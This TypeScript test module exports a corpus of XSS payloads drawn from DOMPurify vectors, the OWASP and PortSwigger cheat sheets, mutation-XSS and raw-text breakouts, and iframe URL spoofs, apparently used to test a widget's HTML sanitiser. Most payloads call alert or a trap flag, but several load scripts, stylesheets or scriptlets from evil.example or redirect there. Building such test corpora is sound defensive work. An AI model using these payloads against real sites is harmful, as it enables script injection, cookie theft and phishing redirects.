/**
 * The XSS corpus: payloads from DOMPurify's public test vectors and mXSS reports, the OWASP XSS
 * filter-evasion cheat sheet and PortSwigger's cheat sheet, raw-text breakouts, javascript:/data: links and
 * iframe-src tricks, plus template and message-format injections aimed at this widget. The sanitiser's unit
 * tests (jsdom) and the browser suite (e2e/quality/xss.e2e.ts, every injection point of the built widget)
 * import this one module.
 *
 * A payload that runs calls alert/confirm/prompt/print or `__pwned(...)`: the browser suite traps all of
 * them. No payload contains a carriage return (the HTML parser rewrites it, which the unit tests would
 * misread as a change).
 */

/** The first corpus: classic payloads by technique. */
const CLASSIC: readonly string[] = [
  // Script elements
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<script/src="https://evil.example/x.js"></script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<script>alert(1)//',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(document.cookie)</script>',
  "'><script>alert(1)</script>",
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)">click</p>',
  '<span onmouseover=alert(1)>hover</span>',
  '<a href="https://ok.example" onfocus=alert(1) autofocus>x</a>',
  '<div/onmouseover=alert(1)>x</div>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<p ONCLICK=alert(1)>upper</p>',
  '<b o\u0000nclick=alert(1)>nul</b>',
  '<strong onclick\n=alert(1)>newline</strong>',
  // javascript:, data: and friends in links
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="//evil.example">protocol-relative</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  // Other dangerous elements
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<template><script>alert(1)</script></template>',
  '<isindex type=image src=1 onerror=alert(1)>',
  // SVG and MathML, including mutation XSS
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><foreignObject><p><iframe srcdoc="<script>alert(1)</script>"></iframe></p></foreignObject></svg>',
  // Breakouts from raw-text and escapable elements
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  // Iframe src tricks
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="//evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://evil.example/?https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://player.vimeo.com.evil.example/video/1"></iframe>',
  '<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com/embed/../../redirect?q=https://evil.example"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
];

/** DOMPurify's public test vectors and mXSS reports (test/fixtures/expect.mjs, security advisories). */
const DOMPURIFY_VECTORS: readonly string[] = [
  '<img src=x onerror=alert(1)//>',
  '<svg><g/onload=alert(2)//<p>',
  '<p>abc<iframe//src=jAva&Tab;script:alert(3)>def</p>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<TABLE><tr><td>HELLO</tr></TABL>',
  '<UL><li><A HREF=//evil.example>click</UL>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><p><style><img src=x onerror=alert(1)>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg><foreignobject><style><img src=x onerror=alert(1)></style></foreignobject></svg>',
  '<table><caption><svg><style><img src=x onerror=alert(1)>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  '<a title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
  '<p title="</p><img src=x onerror=alert(1)>">t</p>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<style><style/><img src=x onerror=alert(1)>',
  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<img name="getElementById"><form id="__xss"><input name="push"></form>',
  '<a id="__proto__" href="https://ok.example">clobber</a>',
  '<img src=x onerror="window.__pwned(\'img\')">',
];

/** The OWASP XSS filter-evasion cheat sheet. */
const OWASP_CHEAT_SHEET: readonly string[] = [
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<iframe src=https://evil.example/scriptlet.html <',
  "\\\";alert('XSS');//",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
  '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<A HREF="http://%77%77%77%2E%65%76%69%6C%2E%65%78%61%6D%70%6C%65">XSS</A>',
  '<A HREF="javascript:document.location=\'https://evil.example/\'">XSS</A>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
];

/** Raw-text and escapable-raw-text breakouts: content that closes a container the page may be inside. */
const BREAKOUTS: readonly string[] = [
  '</noscript><img src=x onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '</textarea><svg onload=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</script><img src=x onerror=alert(1)>',
  '</xmp><img src=x onerror=alert(1)>',
  '</iframe><img src=x onerror=alert(1)>',
  '</noembed><img src=x onerror=alert(1)>',
  '</noframes><img src=x onerror=alert(1)>',
  '</template><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
];

/** Links: every scheme trick, and targets that must end up with rel="noopener noreferrer". */
const LINKS: readonly string[] = [
  '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
  '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
  '<a href="  &#x20;javascript:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="https://example.com" target="_blank">no rel</a>',
  '<a href="https://example.com" target="_blank" rel="opener">opener</a>',
  '<a href="https://example.com" target="_top">top</a>',
  '<a href="https://example.com" ping="https://evil.example/ping">ping</a>',
];

/** Iframe src tricks: only approved players survive, whatever the URL's disguise. */
const IFRAMES: readonly string[] = [
  '<iframe src="https://youtube.com.evil.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com@evil.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com.evil.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://evil.example\\@www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com%2F@evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>',
  '<iframe src="https://player.vimeo.com/video/76979871" allow="camera; microphone; geolocation"></iframe>',
  '<iframe src=" javascript:alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" name="x" srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?autoplay=1&amp;rel=1#t=5"></iframe>',
];

/** Other ways to run script: print/confirm, the window flag, unusual encodings. */
const TRIGGERS: readonly string[] = [
  '<img src=x onerror=print()>',
  '<img src=x onerror=confirm(1)>',
  "<svg onload=top.__pwned('svg')>",
  '<img src=x onerror=\\u0061lert(1)>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
  '<body/onpageshow=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">a</p>',
];

/** Injections aimed at this widget's own syntaxes: {{placeholders}} and the message format. */
const TEMPLATE_AND_MESSAGE: readonly string[] = [
  "{{constructor.constructor('alert(1)')()}}",
  '{{CUSTOMER_NAME|<img src=x onerror=alert(1)>}}',
  '{{__proto__}}{{constructor}}{{toString}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-literal injection, on purpose.
  '${alert(1)}',
  '{count, plural, one {x} other {<img src=x onerror=alert(1)>}}',
  '{n}{total}{title}{{n}}',
  '\u202e<img src=x onerror=alert(1)>',
  '<p style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</p>',
];

/** Every payload of the corpus (unique). */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...CLASSIC,
    ...DOMPURIFY_VECTORS,
    ...OWASP_CHEAT_SHEET,
    ...BREAKOUTS,
    ...LINKS,
    ...IFRAMES,
    ...TRIGGERS,
    ...TEMPLATE_AND_MESSAGE,
  ]),
];
